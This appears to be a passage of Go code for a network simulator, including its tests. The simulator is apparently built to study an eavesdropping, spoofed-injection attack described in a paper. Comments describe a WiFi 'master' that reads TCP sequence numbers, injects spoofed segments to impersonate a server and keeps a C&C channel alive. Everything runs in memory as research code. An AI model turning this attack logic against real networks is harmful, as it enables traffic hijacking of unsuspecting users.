		if maxEvents > 0 && executed >= maxEvents {
			break
		}
	}
	return executed
}

// RunUntil drains events with timestamps no later than deadline.
func (n *Network) RunUntil(deadline time.Duration) int {
	executed := 0
	for n.queue.Len() > 0 && n.queue[0].at <= deadline {
		if !n.Step() {
			break
		}
		executed++
	}
	if n.now < deadline {
		n.now = deadline
	}
	return executed
}

// NewSegment creates a broadcast domain (a WiFi network, a LAN, a WAN hop)
// with the given base propagation latency. Segment names must be unique.
func (n *Network) NewSegment(name string, latency time.Duration) (*Segment, error) {
	if _, dup := n.segments[name]; dup {
		return nil, fmt.Errorf("netsim: duplicate segment %q", name)
	}
	s := &Segment{net: n, name: name, latency: latency}
	n.segments[name] = s
	return s, nil
}

// MustSegment is NewSegment for program initialisation; it panics on a
// duplicate name.
func (n *Network) MustSegment(name string, latency time.Duration) *Segment {
	s, err := n.NewSegment(name, latency)
	if err != nil {
		panic(err)
	}
	return s
}

// Segment is a broadcast domain. Every attached interface with a matching
// destination address receives unicast frames; taps receive everything.
type Segment struct {
	net     *Network
	name    string
	latency time.Duration
	ifaces  []*Interface
	taps    []*Tap
	down    bool
}

// Name returns the segment's name.
func (s *Segment) Name() string { return s.name }

// Latency returns the segment's base propagation delay.
func (s *Segment) Latency() time.Duration { return s.latency }

// SetDown disconnects the segment: frames sent while down are dropped.
// This models the victim leaving the network (§VI-C: the victim moves to a
// different, e.g. home, network and the C&C channel must survive).
func (s *Segment) SetDown(down bool) { s.down = down }

// ErrAddrInUse is returned when attaching a duplicate address to a segment.
var ErrAddrInUse = errors.New("netsim: address already attached to segment")

// Attach connects an interface with the given address. extraDelay models
// the distance between the station and the access point; the eavesdropper
// typically has a smaller delay than the remote web server, which is what
// lets its spoofed segment win the race (§V).
func (s *Segment) Attach(addr Addr, extraDelay time.Duration, h Handler) (*Interface, error) {
	for _, ifc := range s.ifaces {
		if ifc.addr == addr {
			return nil, fmt.Errorf("%w: %s on %s", ErrAddrInUse, addr, s.name)
		}
	}
	ifc := &Interface{seg: s, addr: addr, delay: extraDelay, handler: h}
	s.ifaces = append(s.ifaces, ifc)
	return ifc, nil
}

// MustAttach is Attach for program initialisation; it panics on error.
func (s *Segment) MustAttach(addr Addr, extraDelay time.Duration, h Handler) *Interface {
	ifc, err := s.Attach(addr, extraDelay, h)
	if err != nil {
		panic(err)
	}
	return ifc
}

// AttachTap connects a promiscuous listener: it observes every frame on
// the segment regardless of destination. This is the paper's eavesdropping
// master (§III): it sees TCP source ports and sequence numbers and can
// therefore craft correct spoofed responses.
func (s *Segment) AttachTap(extraDelay time.Duration, h Handler) *Tap {
	t := &Tap{seg: s, delay: extraDelay, handler: h}
	s.taps = append(s.taps, t)
	return t
}

// Interface is an attachment point for a host's protocol stack.
type Interface struct {
	seg     *Segment
	addr    Addr
	delay   time.Duration
	handler Handler
	dropRx  bool
}

// Addr returns the interface address.
func (i *Interface) Addr() Addr { return i.addr }

// Segment returns the segment the interface is attached to.
func (i *Interface) Segment() *Segment { return i.seg }

// SetHandler replaces the receive handler (used when a stack is layered on
// an already-attached interface).
func (i *Interface) SetHandler(h Handler) { i.handler = h }

// SetReceiveDrop silences inbound delivery without detaching, modelling a
// host that left the network but whose address remains configured.
func (i *Interface) SetReceiveDrop(drop bool) { i.dropRx = drop }

// Send transmits a frame. Src is forced to the interface address unless
// spoofed sending is required, in which case use SendSpoofed.
func (i *Interface) Send(pkt Packet) {
	pkt.Src = i.addr
	i.seg.transmit(i.delay, pkt, false)
}

// SendSpoofed transmits a frame preserving whatever source address the
// caller set. Injected attack segments use this to impersonate the server.
func (i *Interface) SendSpoofed(pkt Packet) {
	i.seg.transmit(i.delay, pkt, true)
}

// Tap is a promiscuous observer that may also inject spoofed frames.
type Tap struct {
	seg     *Segment
	delay   time.Duration
	handler Handler
}

// Inject transmits a frame with an arbitrary (spoofed) source address.
func (t *Tap) Inject(pkt Packet) {
	t.seg.net.injected++
	t.seg.transmit(t.delay, pkt, true)
}

// InjectAfter transmits a spoofed frame after an additional delay.
func (t *Tap) InjectAfter(d time.Duration, pkt Packet) {
	t.seg.net.injected++
	t.seg.net.Schedule(d, func() { t.seg.transmit(t.delay, pkt, true) })
}

// Injected reports how many frames were injected network-wide.
func (n *Network) Injected() int { return n.injected }

// transmit schedules delivery of pkt to the addressee and to all taps.
func (s *Segment) transmit(senderDelay time.Duration, pkt Packet, spoofed bool) {
	if s.down {
		return
	}
	_ = spoofed
	frame := pkt.Clone()
	for _, ifc := range s.ifaces {
		if ifc.addr != pkt.Dst {
			continue
		}
		target := ifc
		d := senderDelay + s.latency + target.delay
		s.net.Schedule(d, func() {
			if target.dropRx || target.handler == nil {
				return
			}
			s.net.delivered++
			if s.net.trace != nil {
				s.net.trace(TraceEvent{
					Time: s.net.now, Segment: s.name,
					Src: frame.Src, Dst: frame.Dst,
					Proto: frame.Proto, Size: len(frame.Payload),
				})
			}
			target.handler(s.net.now, frame.Clone())
		})
	}
	for _, tap := range s.taps {
		target := tap
		d := senderDelay + s.latency + target.delay
		s.net.Schedule(d, func() {
			if target.handler == nil {
				return
			}
			if s.net.trace != nil {
				s.net.trace(TraceEvent{
					Time: s.net.now, Segment: s.name,
					Src: frame.Src, Dst: frame.Dst,
					Proto: frame.Proto, Size: len(frame.Payload),
					Tapped: true,
				})
			}
			target.handler(s.net.now, frame.Clone())
		})
	}
}

// Router forwards frames between two segments, modelling the WiFi
// gateway's uplink to the internet. It rewrites nothing: addresses are
// global, as in the paper's message diagrams.
type Router struct {
	a, b *Interface
}

// NewRouter attaches a forwarding element with address addr to both
// segments. Frames destined to other addresses on the far segment are
// relayed; the router is invisible to the endpoints.
func NewRouter(addr Addr, segA, segB *Segment, delay time.Duration) (*Router, error) {
	r := &Router{}
	known := func(seg *Segment, dst Addr) bool {
		for _, ifc := range seg.ifaces {
			if ifc.addr == dst {
				return true
			}
		}
		return false
	}
	fwd := func(to *Segment) Handler {
		return func(_ time.Duration, pkt Packet) {
			out := pkt // keep the original (possibly spoofed) source
			to.net.Schedule(0, func() { to.transmit(delay, out, true) })
		}
	}
	ifaceA, err := segA.Attach(addr, delay, nil)
	if err != nil {
		return nil, fmt.Errorf("router attach %s: %w", segA.name, err)
	}
	ifaceB, err := segB.Attach(addr, delay, nil)
	if err != nil {
		return nil, fmt.Errorf("router attach %s: %w", segB.name, err)
	}
	// A router forwards frames whose destination lives on the other side.
	// It taps both segments so it can pick up transit traffic.
	segA.AttachTap(delay, func(_ time.Duration, pkt Packet) {
		if pkt.Dst != addr && !known(segA, pkt.Dst) && known(segB, pkt.Dst) {
			fwd(segB)(0, pkt)
		}
	})
	segB.AttachTap(delay, func(_ time.Duration, pkt Packet) {
		if pkt.Dst != addr && !known(segB, pkt.Dst) && known(segA, pkt.Dst) {
			fwd(segA)(0, pkt)
		}
	})
	r.a, r.b = ifaceA, ifaceB
	return r, nil
}
