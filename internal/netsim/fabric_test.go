package netsim

import (
	"errors"
	"fmt"
	"math/rand"
	"testing"
	"time"
)

// buildStar assembles the canonical test topology: `lans` LAN shards,
// each with `bots` stations and an uplink to a hub shard hosting one
// echo server. Bots fire seeded request bursts at the hub; the hub
// echoes back; every reply triggers one more local broadcast round so
// traffic mixes intra-shard and cross-shard events across several
// windows. When lossy is set, every LAN segment gets a faulty link
// profile; shardPrints, when non-nil, receives one wire-event stream
// hash per shard (a wire tap attached to every shard's network).
func buildStar(t *testing.T, lans, bots int, lossy bool, shardPrints map[string]*uint64) (*Fabric, []*int) {
	t.Helper()
	fab := NewFabric()
	hub := fab.MustAddShard("hub")
	hubSeg := hub.Network().MustSegment("backbone", 500*time.Microsecond)
	var echoed int
	counters := []*int{&echoed}
	hubSeg.MustAttach("hub-server", 100*time.Microsecond, nil)
	srv := hubSeg.lookup("hub-server")
	srv.SetHandler(func(_ time.Duration, pkt Packet) {
		echoed++
		reply := append([]byte("echo:"), pkt.Payload...)
		srv.Send(Packet{Dst: pkt.Src, Proto: ProtoRaw, Payload: reply})
	})
	if err := hub.Uplink(hubSeg, "gw-hub", 2*time.Millisecond); err != nil {
		t.Fatal(err)
	}
	attachPrint := func(name string, n *Network) {
		if shardPrints == nil {
			return
		}
		h := new(uint64)
		*h = 14695981039346656037 // fnv64a offset basis
		shardPrints[name] = h
		n.SetWireTap(func(ev WireEvent) {
			mix := func(b []byte) {
				for _, c := range b {
					*h ^= uint64(c)
					*h *= 1099511628211
				}
			}
			mix([]byte(fmt.Sprintf("%d|%d|%s|%s|%s|%d|", ev.Kind, ev.Time, ev.Segment, ev.Src, ev.Dst, ev.Proto)))
			mix(ev.Payload)
		})
	}
	attachPrint("hub", hub.Network())

	for l := 0; l < lans; l++ {
		shard := fab.MustAddShard(fmt.Sprintf("lan%02d", l))
		seg := shard.Network().MustSegment("wifi", 200*time.Microsecond)
		if lossy {
			seg.SetLinkProfile(LinkProfile{
				Name: "lossy", Loss: 0.05, Duplicate: 0.02,
				Jitter: 300 * time.Microsecond, Seed: uint64(1000 + l),
			})
		}
		received := new(int)
		counters = append(counters, received)
		rng := rand.New(rand.NewSource(int64(7 + l)))
		for b := 0; b < bots; b++ {
			addr := Addr(fmt.Sprintf("l%d-b%d", l, b))
			var ifc *Interface
			ifc = seg.MustAttach(addr, time.Duration(rng.Intn(300))*time.Microsecond,
				func(_ time.Duration, pkt Packet) {
					*received++
					if len(pkt.Payload) > 4 && string(pkt.Payload[:5]) == "echo:" {
						// One local gossip round per echo: intra-shard load.
						peer := Addr(fmt.Sprintf("l%d-b%d", l, (b+1)%bots))
						ifc.Send(Packet{Dst: peer, Proto: ProtoRaw, Payload: []byte("gossip")})
					}
				})
			at := time.Duration(rng.Intn(4000)) * time.Microsecond
			payload := []byte(fmt.Sprintf("req-%d-%d", l, b))
			shard.Network().Schedule(at, func() {
				ifc.Send(Packet{Dst: "hub-server", Proto: ProtoRaw, Payload: payload})
			})
		}
		if err := shard.Uplink(seg, Addr(fmt.Sprintf("gw-l%d", l)), 2*time.Millisecond); err != nil {
			t.Fatal(err)
		}
		attachPrint(shard.Name(), shard.Network())
	}
	return fab, counters
}

// runStar builds and drains one star fleet and returns a comparable
// outcome: total events, the per-counter values, and (optionally) the
// per-shard wire fingerprints.
func runStar(t *testing.T, workers, lans, bots int, lossy, taps bool) (int, []int, map[string]uint64) {
	t.Helper()
	var prints map[string]*uint64
	if taps {
		prints = make(map[string]*uint64)
	}
	fab, counters := buildStar(t, lans, bots, lossy, prints)
	events, err := fab.Run(workers)
	if err != nil {
		t.Fatal(err)
	}
	vals := make([]int, len(counters))
	for i, c := range counters {
		vals[i] = *c
	}
	final := make(map[string]uint64, len(prints))
	for name, h := range prints {
		final[name] = *h
	}
	return events, vals, final
}

// TestFabricDeterministicAcrossWorkers is the sharded engine's core
// guarantee: the same topology drained at 1, 4, and 8 workers executes
// the identical event set — same event count, same per-host delivery
// counters, and (with a wire tap on every shard) the identical
// per-shard wire-event stream, clean and under a lossy, duplicating,
// jittery LinkProfile alike.
func TestFabricDeterministicAcrossWorkers(t *testing.T) {
	for _, lossy := range []bool{false, true} {
		name := "clean"
		if lossy {
			name = "lossy"
		}
		t.Run(name, func(t *testing.T) {
			refEvents, refVals, refPrints := runStar(t, 1, 6, 40, lossy, true)
			if refEvents == 0 || refVals[0] == 0 {
				t.Fatalf("reference run did nothing: events=%d echoed=%d", refEvents, refVals[0])
			}
			for _, workers := range []int{4, 8} {
				events, vals, prints := runStar(t, workers, 6, 40, lossy, true)
				if events != refEvents {
					t.Errorf("workers=%d: %d events, sequential executed %d", workers, events, refEvents)
				}
				for i := range vals {
					if vals[i] != refVals[i] {
						t.Errorf("workers=%d: counter %d = %d, sequential %d", workers, i, vals[i], refVals[i])
					}
				}
				for shard, want := range refPrints {
					if prints[shard] != want {
						t.Errorf("workers=%d: shard %s wire stream fingerprint %x, sequential %x",
							workers, shard, prints[shard], want)
					}
				}
			}
		})
	}
}

// TestFabricCrossShardEcho pins the boundary semantics: a request
// crosses src LAN → hub and back, the echo arrives no earlier than two
// lookahead crossings after the send, and every bot's request is
// answered exactly once on a clean wire.
func TestFabricCrossShardEcho(t *testing.T) {
	_, vals, _ := runStar(t, 4, 3, 10, false, false)
	echoed := vals[0]
	if want := 3 * 10; echoed != want {
		t.Fatalf("hub echoed %d requests, want %d", echoed, want)
	}
	for l, received := range vals[1:] {
		// Each bot hears its own echo plus one gossip frame per peer round.
		if want := 2 * 10; received != want {
			t.Errorf("lan%02d heard %d deliveries, want %d", l, received, want)
		}
	}
}

// TestFabricZeroLookaheadRejected: a zero (or negative) minimum uplink
// latency would break the conservative window protocol, so declaring
// one fails loudly instead of producing silently nondeterministic runs.
func TestFabricZeroLookaheadRejected(t *testing.T) {
	for _, latency := range []time.Duration{0, -time.Millisecond} {
		fab := NewFabric()
		s := fab.MustAddShard("lan")
		seg := s.Network().MustSegment("wifi", time.Microsecond)
		err := s.Uplink(seg, "gw", latency)
		if !errors.Is(err, ErrZeroLookahead) {
			t.Fatalf("latency %v: err = %v, want ErrZeroLookahead", latency, err)
		}
	}
}

// TestFabricRejectsDuplicateOwnership: one address attached on two
// shards has no deterministic boundary route, so sealing fails.
func TestFabricRejectsDuplicateOwnership(t *testing.T) {
	fab := NewFabric()
	for _, name := range []string{"a", "b"} {
		s := fab.MustAddShard(name)
		seg := s.Network().MustSegment("wifi", time.Microsecond)
		seg.MustAttach("same-addr", 0, nil)
		if err := s.Uplink(seg, Addr("gw-"+name), time.Millisecond); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := fab.Run(1); err == nil {
		t.Fatal("fabric sealed with one address owned by two shards")
	}
}

// TestFabricIsolatedShards: a fabric with no uplinks degenerates to
// independent worlds, each drained to quiescence in one parallel shot.
func TestFabricIsolatedShards(t *testing.T) {
	fab := NewFabric()
	fired := make([]int, 3)
	for i := 0; i < 3; i++ {
		s := fab.MustAddShard(fmt.Sprintf("iso%d", i))
		n := i
		s.Network().Schedule(time.Millisecond, func() { fired[n]++ })
	}
	events, err := fab.Run(4)
	if err != nil {
		t.Fatal(err)
	}
	if events != 3 {
		t.Fatalf("executed %d events, want 3", events)
	}
	for i, f := range fired {
		if f != 1 {
			t.Errorf("shard %d fired %d times", i, f)
		}
	}
}

// TestFabricUnroutableCounted: frames to addresses no shard owns are
// dropped at the boundary and counted, deterministically.
func TestFabricUnroutableCounted(t *testing.T) {
	fab := NewFabric()
	s := fab.MustAddShard("lan")
	seg := s.Network().MustSegment("wifi", time.Microsecond)
	ifc := seg.MustAttach("bot", 0, nil)
	if err := s.Uplink(seg, "gw", time.Millisecond); err != nil {
		t.Fatal(err)
	}
	fab.MustAddShard("empty")
	s.Network().Schedule(0, func() {
		ifc.Send(Packet{Dst: "nowhere", Proto: ProtoRaw, Payload: []byte("lost")})
	})
	if _, err := fab.Run(2); err != nil {
		t.Fatal(err)
	}
	if s.Unroutable() != 1 {
		t.Fatalf("unroutable = %d, want 1", s.Unroutable())
	}
}

// TestSegmentAddressIndex guards the O(1) lookup the fleet scale rests
// on: attach rejects duplicates and delivery finds the addressee
// through the index.
func TestSegmentAddressIndex(t *testing.T) {
	n := New()
	seg := n.MustSegment("idx", time.Microsecond)
	got := 0
	seg.MustAttach("a", 0, func(_ time.Duration, _ Packet) { got++ })
	b := seg.MustAttach("b", 0, nil)
	if _, err := seg.Attach("a", 0, nil); !errors.Is(err, ErrAddrInUse) {
		t.Fatalf("duplicate attach: err = %v, want ErrAddrInUse", err)
	}
	b.Send(Packet{Dst: "a", Proto: ProtoRaw, Payload: []byte("x")})
	n.Run(0)
	if got != 1 {
		t.Fatalf("indexed delivery reached handler %d times, want 1", got)
	}
}
