// Sharded multi-core simulation: a Fabric partitions the simulated
// world into Shards (one per LAN), each owning a full single-threaded
// Network — its own event slab, 4-ary heap, and frame pool — and joins
// them with inter-shard uplinks that declare a minimum crossing
// latency. That declared latency is the *lookahead* of a conservative
// time-window parallel discrete-event simulation:
//
//   - The fabric advances in windows of width L = min(uplink latency).
//     Within a window [t, t+L] every shard runs independently — in
//     parallel on a worker pool — because no frame sent after t can
//     reach another shard before t+L.
//   - Frames leaving a shard are captured into per-(src-shard,
//     dst-shard) mailboxes, in the src shard's deterministic execution
//     order, with payloads copied out of the src shard's frame pool.
//   - At the window barrier the mailboxes are merged into each
//     destination shard in a fixed order — arrival timestamp, then src
//     shard ID, then per-mailbox send order — and scheduled as ordinary
//     events, landing in the dst shard's own frame pool on delivery.
//
// Because each shard is deterministic on its own, the mailboxes fill
// deterministically, and the merge order is a pure function of their
// contents, a fabric run is byte-identical at any worker count: 1, 4,
// and 8 workers produce the same deliveries, the same wire events per
// shard, and the same artifact bytes. docs/SCALING.md walks through the
// protocol, its proof obligations, and the sizing trade-offs.
package netsim

import (
	"errors"
	"fmt"
	"time"

	"masterparasite/internal/runner"
)

// ErrZeroLookahead rejects an inter-shard link with no declared minimum
// latency: the conservative window protocol is only correct when every
// cross-shard frame needs at least the lookahead to arrive, so a
// zero-latency uplink would let shard A affect shard B inside the
// window the shards are running unsynchronised.
var ErrZeroLookahead = errors.New("netsim: inter-shard uplink needs a positive minimum latency — it is the lookahead of the conservative time-window protocol")

// boundary is one frame crossing a shard boundary: payload bytes copied
// out of the source shard's frame pool (frames never cross pools), plus
// the precomputed arrival instant and the destination segment.
type boundary struct {
	at      time.Duration // arrival at the destination shard
	src     Addr
	dst     Addr
	proto   Protocol
	payload []byte
	seg     *Segment // destination segment (owned by the dst shard)
}

// owner records where an address lives: which shard, and on which of
// its segments a frame for it must be re-transmitted.
type owner struct {
	shard *Shard
	seg   *Segment
}

// Fabric is a set of shards joined by latency-bounded uplinks. Build
// the whole topology — shards, segments, interfaces, uplinks — before
// the first Run: the fabric seals its global address table then.
type Fabric struct {
	shards    []*Shard
	byName    map[string]*Shard
	owners    map[Addr]owner
	lookahead time.Duration
	uplinks   int
	sealed    bool

	mergeScratch [][]boundary // barrier k-way merge heads, reused across windows
	stats        RunStats     // last Run's parallel structure
}

// Shard is one independently clocked partition of the fabric. All of a
// shard's segments, interfaces, and handlers execute on the shard's own
// Network — single-threaded, exactly as in an unsharded simulation — so
// per-shard state (handlers, taps, RNGs) needs no locking as long as it
// is never shared across shards.
type Shard struct {
	fab  *Fabric
	id   int
	name string
	net  *Network

	gateways   map[Addr]bool // uplink gateway addrs, excluded from the owner table
	outbox     [][]boundary  // per-destination-shard mailbox, filled in execution order
	unroutable int
}

// NewFabric returns an empty fabric.
func NewFabric() *Fabric {
	return &Fabric{byName: make(map[string]*Shard), owners: make(map[Addr]owner)}
}

// AddShard creates a shard with its own Network. Shard IDs are assigned
// in creation order and break merge ties, so topology builders must
// create shards in a deterministic order.
func (f *Fabric) AddShard(name string) (*Shard, error) {
	if f.sealed {
		return nil, errors.New("netsim: fabric already sealed by Run; build the whole topology first")
	}
	if _, dup := f.byName[name]; dup {
		return nil, fmt.Errorf("netsim: duplicate shard %q", name)
	}
	s := &Shard{fab: f, id: len(f.shards), name: name, net: New(), gateways: make(map[Addr]bool)}
	f.shards = append(f.shards, s)
	f.byName[name] = s
	return s, nil
}

// MustAddShard is AddShard for topology construction; it panics on error.
func (f *Fabric) MustAddShard(name string) *Shard {
	s, err := f.AddShard(name)
	if err != nil {
		panic(err)
	}
	return s
}

// Name returns the shard's name.
func (s *Shard) Name() string { return s.name }

// ID returns the shard's merge-tie-break ID (creation order).
func (s *Shard) ID() int { return s.id }

// Network returns the shard's own network. Attach segments, hosts, wire
// taps, and trace hooks here exactly as on an unsharded simulation —
// but never share handler state between shards: during a window every
// shard executes concurrently with the others.
func (s *Shard) Network() *Network { return s.net }

// Unroutable reports how many cross-shard frames named a destination no
// shard owns; they are dropped at the boundary.
func (s *Shard) Unroutable() int { return s.unroutable }

// Uplink declares the shard's route to the rest of the fabric: a
// gateway interface on seg (addr gwAddr) plus a boundary tap that
// exports every frame addressed off-segment. minLatency is the
// guaranteed minimum crossing time — the WAN hop of the paper's
// uplink — and must be positive, because the fabric's lookahead is the
// minimum over all uplinks. A shard may declare several uplinks (one
// per segment); frames are routed by the global owner table, not by
// which uplink exported them.
func (s *Shard) Uplink(seg *Segment, gwAddr Addr, minLatency time.Duration) error {
	if minLatency <= 0 {
		return fmt.Errorf("%w (shard %s, segment %s, latency %v)", ErrZeroLookahead, s.name, seg.Name(), minLatency)
	}
	if s.fab.sealed {
		return errors.New("netsim: fabric already sealed by Run; declare uplinks before the first window")
	}
	if seg.net != s.net {
		return fmt.Errorf("netsim: segment %s does not belong to shard %s", seg.Name(), s.name)
	}
	if _, err := seg.Attach(gwAddr, 0, nil); err != nil {
		return fmt.Errorf("uplink gateway: %w", err)
	}
	s.gateways[gwAddr] = true
	seg.AttachTap(0, func(now time.Duration, pkt Packet) {
		if pkt.Dst == gwAddr || seg.lookup(pkt.Dst) != nil {
			return // local traffic: the shard's own business
		}
		s.export(now+minLatency, pkt)
	})
	if s.fab.lookahead == 0 || minLatency < s.fab.lookahead {
		s.fab.lookahead = minLatency
	}
	s.fab.uplinks++
	return nil
}

// export copies one outbound frame into the mailbox for its owner
// shard. It runs on the shard's executor (single-threaded) and touches
// only this shard's outbox, so parallel windows need no locking. The
// payload is copied: pooled frame buffers never cross a shard boundary.
func (s *Shard) export(at time.Duration, pkt Packet) {
	own, ok := s.fab.owners[pkt.Dst] // read-only after seal: safe concurrently
	if !ok {
		s.unroutable++
		return
	}
	s.outbox[own.shard.id] = append(s.outbox[own.shard.id], boundary{
		at: at, src: pkt.Src, dst: pkt.Dst, proto: pkt.Proto,
		payload: append([]byte(nil), pkt.Payload...),
		seg:     own.seg,
	})
}

// Lookahead reports the fabric's window width: the minimum declared
// uplink latency (zero while no uplink exists).
func (f *Fabric) Lookahead() time.Duration { return f.lookahead }

// RunStats describes the last Run's parallel structure. Every field is
// deterministic — a pure function of the topology and seeds, identical
// at any worker count — which makes CriticalPath a machine-independent
// scaling measure: on an unloaded machine with as many free cores as
// workers, wall-clock time tracks the critical path, not the total.
type RunStats struct {
	// Windows is the number of conservative time windows executed.
	Windows int
	// Events is the total number of events across all shards.
	Events int
	// Boundary is the number of frames that crossed a shard boundary.
	Boundary int
	// CriticalPath lower-bounds the events a perfectly parallel run of
	// the given worker count must execute in sequence: per window, the
	// busiest shard or an even worker share of the window's total,
	// whichever is larger, summed over windows.
	CriticalPath int
}

// Stats returns the statistics of the most recent Run.
func (f *Fabric) Stats() RunStats { return f.stats }

// seal freezes the topology: the global owner table is built from every
// shard's attached interfaces (gateways excluded), and each shard gets
// its per-destination mailboxes. An address attached on two shards is
// an error — ownership is what makes boundary routing deterministic.
func (f *Fabric) seal() error {
	if f.sealed {
		return nil
	}
	for _, s := range f.shards {
		for _, seg := range s.net.segments {
			for _, ifc := range seg.ifaces {
				if s.gateways[ifc.addr] {
					continue
				}
				if prev, dup := f.owners[ifc.addr]; dup && prev.shard != s {
					return fmt.Errorf("netsim: address %s owned by shards %s and %s", ifc.addr, prev.shard.name, s.name)
				}
				f.owners[ifc.addr] = owner{shard: s, seg: seg}
			}
		}
	}
	for _, s := range f.shards {
		s.outbox = make([][]boundary, len(f.shards))
	}
	f.sealed = true
	return nil
}

// nextEventTime returns the earliest pending event across all shards.
func (f *Fabric) nextEventTime() (time.Duration, bool) {
	var min time.Duration
	found := false
	for _, s := range f.shards {
		if at, ok := s.net.NextEventAt(); ok && (!found || at < min) {
			min, found = at, true
		}
	}
	return min, found
}

// sortMailbox restores arrival order in one mailbox, stably (equal
// timestamps keep send order). A mailbox is naturally sorted already —
// exports happen in the shard's time-ordered execution and add a fixed
// uplink latency — so this is a single O(n) verification pass unless
// the shard mixes uplinks of different latencies; the insertion sort
// only moves the rare stragglers.
func sortMailbox(mb []boundary) {
	for i := 1; i < len(mb); i++ {
		for j := i; j > 0 && mb[j].at < mb[j-1].at; j-- {
			mb[j], mb[j-1] = mb[j-1], mb[j]
		}
	}
}

// exchange is the window barrier: every mailbox destined to shard d is
// merged — arrival timestamp first, then src shard ID, then per-mailbox
// send order — and scheduled into d's queue. It runs sequentially on
// the fabric's driver, after all shards have reached the deadline, so
// every shard's clock equals the deadline and every arrival instant is
// at or past it (the lookahead guarantee). The merge is a hand-rolled
// k-way pick over the per-src sorted runs: at fleet scale the barrier
// is on the critical path of every window, and a reflection-based
// stable sort here costs more than the simulation itself.
func (f *Fabric) exchange() {
	for _, d := range f.shards {
		lists := f.mergeScratch[:0]
		for _, src := range f.shards { // src shard ID order: the second merge key
			if mb := src.outbox[d.id]; len(mb) > 0 {
				sortMailbox(mb)
				lists = append(lists, mb)
			}
		}
		for len(lists) > 0 {
			// Pick the earliest head; ties go to the lowest src shard ID,
			// which is the order lists were gathered in.
			min := 0
			for l := 1; l < len(lists); l++ {
				if lists[l][0].at < lists[min][0].at {
					min = l
				}
			}
			b := lists[min][0]
			if lists[min] = lists[min][1:]; len(lists[min]) == 0 {
				lists = append(lists[:min], lists[min+1:]...)
			}
			f.stats.Boundary++
			d.net.Schedule(b.at-d.net.now, func() {
				b.seg.transmit(0, Packet{Src: b.src, Dst: b.dst, Proto: b.proto, Payload: b.payload})
			})
		}
		for _, src := range f.shards {
			src.outbox[d.id] = src.outbox[d.id][:0]
		}
		f.mergeScratch = lists[:0]
	}
}

// Run drains the whole fabric to quiescence on a pool of the given
// width (runner.New semantics: 0 = GOMAXPROCS, 1 = strictly
// sequential) and returns the total number of events executed. The
// result — every delivery, every wire event, every handler state — is
// byte-identical at any worker count: workers change wall-clock time,
// never virtual behaviour. Run may be called again after scheduling
// more work, but the topology is sealed at the first call.
func (f *Fabric) Run(workers int) (int, error) {
	if err := f.seal(); err != nil {
		return 0, err
	}
	pool := runner.New(workers)
	f.stats = RunStats{}
	fold := func(counts []int) {
		f.stats.Windows++
		window, max := 0, 0
		for _, c := range counts {
			window += c
			if c > max {
				max = c
			}
		}
		f.stats.Events += window
		// A window's parallel floor: the busiest shard, or an even share
		// of the window across the pool, whichever binds.
		floor := (window + pool.Workers() - 1) / pool.Workers()
		if max > floor {
			floor = max
		}
		f.stats.CriticalPath += floor
	}
	if f.uplinks == 0 {
		// No inter-shard links: the shards are isolated worlds, each
		// drained to quiescence in one shot.
		counts, _ := runner.Map(pool, f.shards, func(_ int, s *Shard) (int, error) {
			return s.net.Run(0), nil
		})
		fold(counts)
		return f.stats.Events, nil
	}
	for {
		start, ok := f.nextEventTime()
		if !ok {
			return f.stats.Events, nil
		}
		deadline := start + f.lookahead
		counts, _ := runner.Map(pool, f.shards, func(_ int, s *Shard) (int, error) {
			return s.net.RunUntil(deadline), nil
		})
		fold(counts)
		f.exchange()
	}
}
