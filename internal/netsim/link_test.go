package netsim

import (
	"fmt"
	"strings"
	"testing"
	"time"
)

// wireString renders one wire event compactly for byte-level stream
// comparison across runs.
func wireString(e WireEvent) string {
	return fmt.Sprintf("%s t=%d %s %s>%s p=%d %dB",
		e.Kind, e.Time.Nanoseconds(), e.Segment, e.Src, e.Dst, e.Proto, len(e.Payload))
}

// lossyExchange runs n sends over a segment with the given profile and
// returns the full wire-event stream plus the network for counter
// checks.
func lossyExchange(t *testing.T, p LinkProfile, sends int, withProfile bool) ([]string, *Network, *Segment) {
	t.Helper()
	n := New()
	seg := n.MustSegment("wifi", time.Millisecond)
	if withProfile {
		seg.SetLinkProfile(p)
	}
	seg.MustAttach("10.0.0.1", 0, func(time.Duration, Packet) {})
	src := seg.MustAttach("10.0.0.2", 0, nil)
	var stream []string
	n.SetWireTap(func(e WireEvent) { stream = append(stream, wireString(e)) })
	for i := 0; i < sends; i++ {
		src.Send(Packet{Dst: "10.0.0.1", Proto: ProtoRaw, Payload: []byte(fmt.Sprintf("frame-%03d", i))})
		n.Run(0)
	}
	return stream, n, seg
}

func TestCleanProfileByteIdenticalToNoProfile(t *testing.T) {
	clean, _ := ProfileByName("clean")
	without, _, _ := lossyExchange(t, LinkProfile{}, 32, false)
	with, _, _ := lossyExchange(t, clean, 32, true)
	if strings.Join(without, "\n") != strings.Join(with, "\n") {
		t.Fatalf("clean profile changed the wire stream:\nwithout: %v\nwith: %v", without, with)
	}
}

func TestLinkFaultsAreDeterministic(t *testing.T) {
	p := LinkProfile{Name: "t", Loss: 0.3, Jitter: 2 * time.Millisecond,
		Reorder: 0.2, ReorderDelay: 3 * time.Millisecond, Duplicate: 0.2, Seed: 42}
	a, _, segA := lossyExchange(t, p, 64, true)
	b, _, segB := lossyExchange(t, p, 64, true)
	if strings.Join(a, "\n") != strings.Join(b, "\n") {
		t.Fatal("identical profile+seed produced different wire streams")
	}
	if segA.Lost() == 0 || segA.Duplicated() == 0 {
		t.Fatalf("expected faults at loss=0.3 dup=0.2 over 64 sends; lost=%d dup=%d",
			segA.Lost(), segA.Duplicated())
	}
	if segA.Lost() != segB.Lost() || segA.Duplicated() != segB.Duplicated() {
		t.Fatal("fault counters diverged between identical runs")
	}
	// A different seed must draw a different fault sequence.
	p.Seed = 43
	c, _, _ := lossyExchange(t, p, 64, true)
	if strings.Join(a, "\n") == strings.Join(c, "\n") {
		t.Fatal("different seeds produced identical fault sequences")
	}
}

func TestLossEmitsWireDropAndSkipsDelivery(t *testing.T) {
	p := LinkProfile{Name: "t", Loss: 1.0, Seed: 1}
	stream, n, seg := lossyExchange(t, p, 8, true)
	if n.Delivered() != 0 {
		t.Fatalf("delivered = %d on a 100%%-loss link", n.Delivered())
	}
	if seg.Lost() != 8 {
		t.Fatalf("Lost() = %d, want 8", seg.Lost())
	}
	drops := 0
	for _, s := range stream {
		if strings.HasPrefix(s, "drop ") {
			drops++
		}
	}
	if drops != 8 {
		t.Fatalf("wire stream has %d drops, want 8:\n%s", drops, strings.Join(stream, "\n"))
	}
}

func TestLossWithTapStillReachesEavesdropper(t *testing.T) {
